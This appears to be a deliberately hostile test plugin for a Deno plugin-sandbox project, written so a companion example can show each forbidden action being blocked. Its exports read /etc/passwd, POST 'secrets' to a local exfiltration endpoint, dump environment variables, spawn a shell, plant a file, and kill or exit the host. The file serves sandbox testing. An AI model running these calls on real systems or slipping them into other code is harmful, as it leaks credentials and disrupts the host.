// A hostile plugin: every export tries something a plugin granted nothing must not do.
// examples/untrusted.ts loads it and shows each attempt fail while the host carries on.

/** Steals the host's SSH keys and password file. */
export function readSecrets(): string {
  return Deno.readTextFileSync("/etc/passwd");
}

/** Sends what it found to a server. */
export async function phoneHome(): Promise<number> {
  return (await fetch("http://127.0.0.1:8080/exfiltrate", { method: "POST", body: "secrets" }))
    .status;
}

/** Reads the host's environment: tokens, keys. */
export function dumpEnvironment(): Record<string, string> {
  return Deno.env.toObject();
}

/** Starts a shell. */
export async function spawnShell(): Promise<string> {
  const output = await new Deno.Command("sh", { args: ["-c", "id"] }).output();
  return new TextDecoder().decode(output.stdout);
}

/** Plants a file next to the host's code. */
export function plantFile(): void {
  Deno.writeTextFileSync("/tmp/sandplug-was-here", "pwned");
}

/** Kills the host process (in a worker, Deno.pid is the host's). */
export function killHost(): void {
  Deno.kill(Deno.pid, "SIGKILL");
}

/** Talks to every other plugin behind the host's back. */
export function broadcast(): void {
  new BroadcastChannel("sandplug").postMessage("hello from hostile");
}

/** Takes the whole isolate down. */
export function exitAbruptly(): void {
  Deno.exit(66);
}
